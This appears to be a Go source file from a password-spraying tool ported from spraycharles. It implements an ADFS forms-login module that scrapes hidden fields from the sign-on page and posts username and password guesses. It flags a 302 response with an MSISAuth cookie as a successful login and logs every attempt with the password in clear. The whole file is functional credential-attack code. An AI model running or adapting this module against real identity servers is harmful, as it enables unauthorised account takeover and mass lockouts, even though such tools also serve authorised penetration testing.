package target

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"time"

	"github.com/crlsmrls/lowandslow/internal/attemptlog"
)

// ntlm.go is the ADFS/NTLM forms-login adapter (module "ntlm"),
// grounded directly in original_source/spraycharles/targets/Adfs.py:
// GET the IdP-initiated sign-on page, scrape its hidden form fields
// with regexes, POST credentials to the scraped form action, and read
// a 302 redirect plus an MSISAuth/MSISAuthenticated cookie as the hit
// signal.

var (
	hiddenInputRe = regexp.MustCompile(`(?is)<input[^>]+type=["']hidden["'][^>]*>`)
	nameAttrRe    = regexp.MustCompile(`(?i)name=["']([^"']+)["']`)
	valueAttrRe   = regexp.MustCompile(`(?i)value=["']([^"']*)["']`)
	formActionRe  = regexp.MustCompile(`(?is)<form[^>]+action=["']([^"']+)["']`)
)

type ntlmTarget struct {
	baseURL   string
	signOnURL string
	timeout   time.Duration
}

func newNTLMTarget() Adapter {
	return &ntlmTarget{}
}

// Initialize builds the IdP-initiated sign-on URL from cfg.Path,
// Adfs.py's simpler alternative to scraping a relying-party-specific
// login flow (config.Config.Validate requires --path for module=ntlm
// precisely so an operator supplies this).
func (t *ntlmTarget) Initialize(_ context.Context, cfg Config) error {
	t.baseURL = buildBaseURL(cfg)
	t.signOnURL = t.baseURL + cfg.Path
	t.timeout = secondsToDuration(cfg.Timeout)
	return nil
}

// Login creates a fresh cookie jar per attempt, mirroring Adfs.py's
// login() building a fresh requests.Session every call so one
// attempt's auth cookies never leak into the next.
func (t *ntlmTarget) Login(ctx context.Context, username, password string) (Response, error) {
	jar, _ := cookiejar.New(nil)
	client := &http.Client{
		Timeout: t.timeout,
		Jar:     jar,
		CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}

	data := url.Values{
		"UserName":   {username},
		"Password":   {password},
		"AuthMethod": {"FormsAuthentication"},
	}
	postURL := t.signOnURL

	if getReq, err := http.NewRequestWithContext(ctx, http.MethodGet, t.signOnURL, nil); err == nil {
		if getResp, getErr := client.Do(getReq); getErr == nil {
			body, _ := io.ReadAll(getResp.Body)
			getResp.Body.Close()
			if getResp.StatusCode == http.StatusOK {
				html := string(body)
				for field, value := range extractHiddenFields(html) {
					data.Set(field, value)
				}
				if action := extractFormAction(html, t.baseURL); action != "" {
					postURL = action
				}
			}
		}
		// A failed GET falls through to a direct POST against the
		// sign-on URL, matching Adfs.py's "some ADFS configs work this
		// way" fallback.
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, postURL, strings.NewReader(data.Encode()))
	if err != nil {
		return Response{Username: username, Password: password}, err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	resp, err := client.Do(req)
	if err != nil {
		if isTimeoutErr(err) {
			return Response{Username: username, Password: password, Timeout: true}, ErrTimeout
		}
		return Response{Username: username, Password: password}, err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)

	result := Response{
		Username:   username,
		Password:   password,
		StatusCode: resp.StatusCode,
		BodyLength: len(body),
	}
	if resp.StatusCode == http.StatusFound {
		for _, c := range resp.Cookies() {
			if c.Name == "MSISAuth" || c.Name == "MSISAuthenticated" {
				result.StatusLabel = "302-AUTH"
				break
			}
		}
		if result.StatusLabel == "" {
			if postU, parseErr := url.Parse(postURL); parseErr == nil {
				for _, c := range jar.Cookies(postU) {
					if c.Name == "MSISAuth" || c.Name == "MSISAuthenticated" {
						result.StatusLabel = "302-AUTH"
						break
					}
				}
			}
		}
	}
	return result, nil
}

// extractHiddenFields mirrors Adfs.py's _extract_form_fields: pull
// every <input type="hidden"> tag's name/value pair out of raw HTML
// without a full HTML parser, since ADFS's sign-on page is simple
// enough that the regex extraction the original uses is sufficient.
func extractHiddenFields(html string) map[string]string {
	fields := make(map[string]string)
	for _, block := range hiddenInputRe.FindAllString(html, -1) {
		nameMatch := nameAttrRe.FindStringSubmatch(block)
		if nameMatch == nil {
			continue
		}
		value := ""
		if valueMatch := valueAttrRe.FindStringSubmatch(block); valueMatch != nil {
			value = valueMatch[1]
		}
		fields[nameMatch[1]] = value
	}
	return fields
}

// extractFormAction mirrors Adfs.py's _get_post_url: resolve the
// <form action="..."> target against baseURL for relative paths.
func extractFormAction(html, baseURL string) string {
	match := formActionRe.FindStringSubmatch(html)
	if match == nil {
		return ""
	}
	action := match[1]
	switch {
	case strings.HasPrefix(action, "http"):
		return action
	case strings.HasPrefix(action, "/"):
		return baseURL + action
	default:
		return baseURL + "/" + action
	}
}

func (t *ntlmTarget) LogAttempt(w io.Writer, resp Response) error {
	return attemptlog.WriteLine(w, attemptlog.Record{
		Timestamp:      attemptlog.NewTimestamp(time.Now()),
		Module:         "ntlm",
		Username:       resp.Username,
		Password:       resp.Password,
		ResponseCode:   resp.ResponseCode(),
		ResponseLength: resp.ResponseLength(),
	})
}

func (t *ntlmTarget) PrintResponse(w io.Writer, resp Response) {
	fmt.Fprintf(w, "%-35s %-25s %13v %15v\n", resp.Username, resp.Password, resp.ResponseCode(), resp.ResponseLength())
}

func (t *ntlmTarget) PrintHeaders(w io.Writer) {
	fmt.Fprintf(w, "%-35s %-25s %13s %15s\n", "Username", "Password", "Response Code", "Response Length")
	fmt.Fprintln(w, strings.Repeat("-", 90))
}
